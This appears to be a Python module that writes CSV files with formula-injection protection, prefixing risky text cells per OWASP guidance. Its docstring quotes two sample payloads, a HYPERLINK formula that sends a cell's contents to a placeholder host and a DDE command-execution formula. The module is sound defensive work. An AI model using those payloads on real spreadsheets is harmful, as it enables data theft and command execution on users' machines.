"""The one CSV writer: text cells that a spreadsheet would run as formulas are neutralised.

A CSV file opened in Excel, LibreOffice or Google Sheets turns a cell that starts with
``=``, ``+``, ``-`` or ``@`` into a formula, so a report whose description reads
``=HYPERLINK("http://elsewhere/?"&A1, "click")`` or ``+cmd|' /C calc'!A0`` would run on a
staff member's machine. Every CSV this project writes goes through :func:`csv_text` or
:func:`write_csv`, which follow the OWASP guidance on CSV injection
(https://owasp.org/www-community/attacks/CSV_Injection): a text cell that begins with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return is prefixed with a single quote
``'`` so the spreadsheet shows it as text, and every cell that holds a separator or a
quote is quoted. Every text cell is written in double quotes (``csv.QUOTE_NONNUMERIC``,
embedded quotes doubled), as the guidance asks, so a carriage return inside a cell cannot
start a new row whose first cell would be a formula.

Only text is touched: a number column keeps its numbers, so ``-94.58`` in a longitude
column stays a number, while the text ``"-1+2"`` in a description becomes ``"'-1+2"``.
Column names are treated as text too (an imported file names its own columns).
"""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd

#: First characters that make a spreadsheet read a cell as a formula (OWASP).
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: object) -> object:
    """``value`` made inert for a spreadsheet: text starting a formula gets a ``'`` prefix.

    Parameters
    ----------
    value
        One cell. Anything but a ``str`` (numbers, dates, missing values) is returned as
        it is.

    Returns
    -------
    object
        ``"'" + value`` when ``value`` is text beginning with one of
        :data:`FORMULA_PREFIXES`, else ``value`` unchanged.
    """
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def neutralised(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells and column names are neutralised.

    Parameters
    ----------
    frame
        Any table; its index is not written by this module's writers.

    Returns
    -------
    pandas.DataFrame
        The same shape and dtypes; only text values differ.
    """
    out = pd.DataFrame(frame).copy()
    for col in out.columns:
        dtype = out[col].dtype
        if pd.api.types.is_object_dtype(dtype) or isinstance(
                dtype, pd.StringDtype | pd.CategoricalDtype):
            out[col] = out[col].astype(object).map(neutralise)
    out.columns = [neutralise(c) for c in out.columns]
    return out


def csv_text(frame: pd.DataFrame) -> str:
    """``frame`` as CSV text (no index), safe to open in a spreadsheet.

    Parameters
    ----------
    frame
        The table to write.

    Returns
    -------
    str
        The CSV, with formula-like text cells neutralised (see :func:`neutralise`).
    """
    return str(neutralised(frame).to_csv(index=False, quoting=csv.QUOTE_NONNUMERIC))


def write_csv(frame: pd.DataFrame, path: Path | str) -> Path:
    """Write ``frame`` to ``path`` as UTF-8 CSV (no index), safe to open in a spreadsheet.

    Parameters
    ----------
    frame
        The table to write.
    path
        The file to create or replace; its folder is created when absent.

    Returns
    -------
    pathlib.Path
        ``path``.
    """
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    neutralised(frame).to_csv(path, index=False, encoding="utf-8",
                              quoting=csv.QUOTE_NONNUMERIC)
    return path
